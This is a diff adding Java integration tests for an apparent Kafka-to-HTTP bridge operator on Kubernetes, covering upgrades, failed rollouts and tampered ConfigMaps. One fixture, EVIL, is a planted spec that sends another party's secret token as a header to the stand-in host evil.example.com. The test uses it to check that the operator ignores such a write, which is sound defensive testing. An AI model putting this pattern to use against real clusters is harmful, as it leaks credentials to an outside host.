@@ -3,11 +3,16 @@ package dev.kafkaapibridge.operator;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.awaitility.Awaitility.await;
 
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
 import dev.kafkaapibridge.operator.cluster.ControlPlane;
 import dev.kafkaapibridge.operator.cluster.FakeKubelet;
+import io.fabric8.kubernetes.api.model.Pod;
+import java.io.IOException;
 import java.time.Duration;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Map;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -18,7 +23,17 @@ import org.junit.jupiter.api.Test;
  */
 class FormerSpecIT {
 
+  private static final ObjectMapper JSON = new ObjectMapper();
   private static final String NAMESPACE = "former";
+
+  /** Sound, and not what anybody with rights to bridges has written. */
+  private static final String EVIL =
+      """
+      kafka: {bootstrapServers: "kafka:9092", topics: [orders]}
+      target: {http: {url: "https://evil.example.com", headers: [{name: X-Secret, secretKeyRef: {name: theirs, key: token}}]}}
+      workload: {image: evil}
+      """;
+
   private ControlPlane cluster;
   private TestedOperator operator;
   private FakeKubelet kubelet;
@@ -53,6 +68,87 @@ class FormerSpecIT {
         .untilAsserted(() -> assertThat(accepted()).contains("maxInFlight: 5"));
   }
 
+  @Test
+  void whoMayWriteConfigMapsHasNothingOfHisServed() throws Exception {
+    apply("delivery: {maxInFlight: 5}");
+    awaitReady("True");
+    apply("delivery: {batch: {}}");
+    awaitReady("False");
+    String deployment = kubectl("get", "deployment/orders-bridge", "-o", "jsonpath={.spec}");
+
+    write(EVIL);
+    await().untilAsserted(() -> assertThat(accepted()).as("put back").contains("maxInFlight: 5"));
+    operator.restart(() -> write(EVIL));
+    apply("delivery: {batch: {}, maxInFlight: 6}");
+
+    await()
+        .atMost(Duration.ofSeconds(30))
+        .untilAsserted(() -> assertThat(observed()).isEqualTo(generation()));
+    assertThat(kubectl("get", "deployment/orders-bridge", "-o", "jsonpath={.spec}"))
+        .isEqualTo(deployment);
+    assertThat(ready("message"))
+        .contains("spec.delivery.batch", "neither scaled nor put back: ConfigMap 'orders-bridge'");
+
+    apply("delivery: {maxInFlight: 7}");
+    awaitReady("True");
+    assertThat(accepted()).contains("maxInFlight: 7").doesNotContain("evil");
+  }
+
+  /** One rollout is due, since the pods' volume is another. */
+  @Test
+  void podsOfAnOlderOperatorKeepTheirFileThroughTheUpgrade() throws Exception {
+    apply("delivery: {maxInFlight: 5}");
+    awaitReady("True");
+    String since = ready("lastTransitionTime");
+    kubelet.fate(pod -> mountsAllFiles(pod) ? FakeKubelet.ready() : null);
+
+    operator.restart(this::asAnOlderOperatorLeftIt);
+    String file = file("bridge\\.yaml");
+    String older = pods().getFirst();
+    await().atMost(Duration.ofSeconds(30)).until(() -> pods().size() == 2);
+    kubectl("delete", "service/orders-bridge");
+    await("a later reconcile")
+        .atMost(Duration.ofSeconds(30))
+        .until(() -> !kubectl("get", "services", "-o", "name").isEmpty());
+
+    assertThat(file("bridge\\.yaml"))
+        .as("at most it says by now when the bridge started first")
+        .startsWith(file)
+        .contains("maxInFlight: 5");
+    assertThat(accepted()).contains("maxInFlight: 5");
+    assertThat(pods()).contains(older);
+    kubelet.fate(pod -> FakeKubelet.ready());
+    await()
+        .atMost(Duration.ofSeconds(60))
+        .until(() -> !pods().contains(older) && file("bridge\\.yaml").isEmpty());
+    awaitReady("True");
+    assertThat(kubectl("get", "deployment/orders-bridge", "-o", "jsonpath={.metadata.annotations}"))
+        .as("the first, that of the older operator, that of the upgrade")
+        .contains("\"deployment.kubernetes.io/revision\":\"3\"");
+    assertThat(ready("lastTransitionTime")).as("Ready all the time").isEqualTo(since);
+  }
+
+  @Test
+  void whileTheRolloutAfterAnUpgradeFailsPodsOfTheOlderOperatorKeepTheirFile() throws Exception {
+    apply("delivery: {maxInFlight: 5}");
+    awaitReady("True");
+    kubelet.fate(pod ->
+        "bad".equals(pod.getSpec().getContainers().getFirst().getImage())
+            ? FakeKubelet.waiting("ImagePullBackOff", "no such image")
+            : FakeKubelet.ready());
+
+    operator.restart(() -> {
+      asAnOlderOperatorLeftIt();
+      apply("delivery: {maxInFlight: 6}\n  workload: {image: bad}");
+    });
+    awaitReady("False");
+
+    assertThat(file("bridge\\.yaml")).contains("maxInFlight: 5");
+    kubelet.fate(pod -> FakeKubelet.ready());
+    awaitReady("True");
+    await().atMost(Duration.ofSeconds(30)).until(() -> file("bridge\\.yaml").isEmpty());
+  }
+
   /** To and fro a hundred times: no file, no ReplicaSet and no pod is left of it. */
   @Test
   void aSpecThatIsAcceptedAndRefusedInTurnLeavesNothing() {
@@ -69,7 +165,65 @@ class FormerSpecIT {
     assertThat(kubectl("get", "pods", "-o", "name").lines()).hasSize(1);
   }
 
+  /**
+   * One file for all pods, a template that mounts it whole, and neither an accepted spec nor its
+   * seal; its pods run.
+   */
+  private void asAnOlderOperatorLeftIt() throws IOException {
+    var files = (ObjectNode) JSON.readTree(kubectl("get", "configmap/orders-bridge", "-o", "json"));
+    String file =
+        files.get("data").properties().stream()
+            .filter(entry -> entry.getKey().startsWith("bridge-"))
+            .findFirst()
+            .orElseThrow()
+            .getValue()
+            .asText();
+    files.set("data", JSON.createObjectNode().put("bridge.yaml", file));
+    ((ObjectNode) files.get("metadata")).remove(List.of("resourceVersion", "managedFields", "uid"));
+    cluster.apply(
+        files.toString(),
+        "--server-side",
+        "--force-conflicts",
+        "--field-manager=kafka-api-bridge-operator");
+    kubectl(
+        "patch",
+        "deployment/orders-bridge",
+        "--type=json",
+        "-p",
+        """
+        [{"op": "remove", "path": "/metadata/annotations/kafka-api-bridge.dev~1accepted-spec"},
+         {"op": "remove", "path": "/spec/template/spec/volumes/0/configMap/items"}]
+        """);
+    kubectl("rollout", "status", "deployment/orders-bridge", "--timeout=60s");
+    await().atMost(Duration.ofSeconds(30)).until(() -> pods().size() == 1);
+    assertThat(kubectl("get", "configmap/orders-bridge", "-o", "jsonpath={.data}"))
+        .contains("bridge.yaml")
+        .doesNotContain("accepted-spec", "bridge-");
+  }
+
+  private static boolean mountsAllFiles(Pod pod) {
+    return pod.getSpec().getVolumes().getFirst().getConfigMap().getItems().isEmpty();
+  }
+
+  private List<String> pods() {
+    return kubectl("get", "pods", "-o", "name").lines().toList();
+  }
+
+  private void write(String accepted) throws IOException {
+    kubectl(
+        "patch",
+        "configmap/orders-bridge",
+        "--type=merge",
+        "-p",
+        JSON.writeValueAsString(Map.of("data", Map.of("accepted-spec.yaml", accepted))));
+  }
+
   private String accepted() {
+    return file("accepted-spec\\.yaml");
+  }
+
+  /** Empty where there is none. */
+  private String file(String key) {
     return cluster
         .tryKubectl(
             "-n",
@@ -77,7 +231,7 @@ class FormerSpecIT {
             "get",
             "configmap/orders-bridge",
             "-o",
-            "jsonpath={.data['accepted-spec\\.yaml']}")
+            "jsonpath={.data['" + key + "']}")
         .out();
   }
 
@@ -100,14 +254,16 @@ class FormerSpecIT {
         .atMost(Duration.ofSeconds(90))
         .untilAsserted(() -> {
           assertThat(observed()).isEqualTo(generation());
-          assertThat(
-                  kubectl(
-                      "get",
-                      "kab/orders",
-                      "-o",
-                      "jsonpath={.status.conditions[?(@.type=='Ready')].status}"))
-              .isEqualTo(status);
+          assertThat(ready("status")).isEqualTo(status);
         });
+  }
+
+  private String ready(String field) {
+    return kubectl(
+        "get",
+        "kab/orders",
+        "-o",
+        "jsonpath={.status.conditions[?(@.type=='Ready')]." + field + "}");
   }
 
   private String observed() {
